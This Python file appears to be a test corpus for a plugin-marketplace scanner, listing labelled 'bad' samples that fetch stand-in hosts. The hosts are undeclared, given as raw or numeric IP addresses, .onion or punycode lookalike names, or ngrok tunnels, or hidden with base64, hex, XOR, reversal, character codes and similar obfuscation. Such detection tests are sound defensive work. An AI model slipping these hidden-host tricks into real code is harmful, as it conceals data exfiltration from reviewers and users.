"""Bad by where they send."""

import base64
from functools import partial

from aei_marketplace.bench.corpus.bad.parts import FETCH, JS_FETCH, URL, bad, chance, codes
from aei_marketplace.bench.corpus.making import HOST, package, python, script

SAMPLES = (
    *bad(
        "network",
        "undeclared-host",
        host_that_the_manifest_does_not_declare=python(FETCH % f"'{URL}'", network=True),
        undeclared_host_without_any_source=partial(package, URL, network=True),
        undeclared_host_in_wide_characters=partial(package, URL.encode("utf-16-le"), network=True),
        undeclared_host_in_C=partial(package, source={"plugin.c": f'#define WHERE "{URL}"\n'}, network=True),
        host_beside_one_that_is_declared=script(
            JS_FETCH % f"`https://{HOST}.stranger.example/`", network=True
        ),
    ),
    *bad(
        "network",
        "hidden-host",
        host_in_base64=partial(package, base64.b64encode(URL.encode()), network=True),
        host_in_base64_of_base64=partial(package, base64.b64encode(base64.b64encode(URL.encode()))),
        host_in_hexadecimal=python(FETCH % f"bytes.fromhex('{URL.encode().hex()}').decode()", network=True),
        host_mirrored=python(FETCH % f"'{URL[::-1]}'[::-1]", network=True),
        host_in_pieces=python(
            "A = 'collect.str'\nB = 'anger.example'\n" + FETCH % "'https://' + A + B", network=True
        ),
        host_joined_of_a_list=script(
            JS_FETCH % "'https://' + ['collect', 'stranger', 'example'].join('.')", network=True
        ),
        host_in_character_codes=script(JS_FETCH % f"String.fromCharCode({codes(URL)})", network=True),
        host_behind_a_key=python(FETCH % f"''.join(chr(c ^ 23) for c in [{codes(URL, 23)}])", network=True),
        host_in_escapes=script(
            JS_FETCH % ("'" + "".join(f"\\x{ord(c):02x}" for c in URL) + "'"), network=True
        ),
        host_in_base85=partial(package, base64.b85encode(URL.encode()), network=True),
        host_rotated=partial(package, "uggcf://pbyyrpg.fgenatre.rknzcyr/gnxr", network=True),
    ),
    *bad(
        "network",
        "address-literal",
        machine_by_its_address=python(FETCH % "'http://203.0.113.66:4444/'", network=True),
        address_as_one_number=python(FETCH % "'http://3405803842/x'", network=True),
    ),
    *bad(
        "network",
        "onion",
        hidden_service=partial(
            package, f"http://{chance(56, 'abcdefghijklmnopqrstuvwxyz234567', 'onion')}.onion/"
        ),
    ),
    *bad(
        "network",
        "lookalike-host",
        host_in_letters_that_look_alike=python(FETCH % "'https://api.xn--cme-8cd.example/v1'", network=True),
    ),
    *bad(
        "network",
        "drop",
        tunnel_to_a_machine_at_home=python(FETCH % "'https://4f2a.ngrok-free.app/in'", network=True),
    ),
)
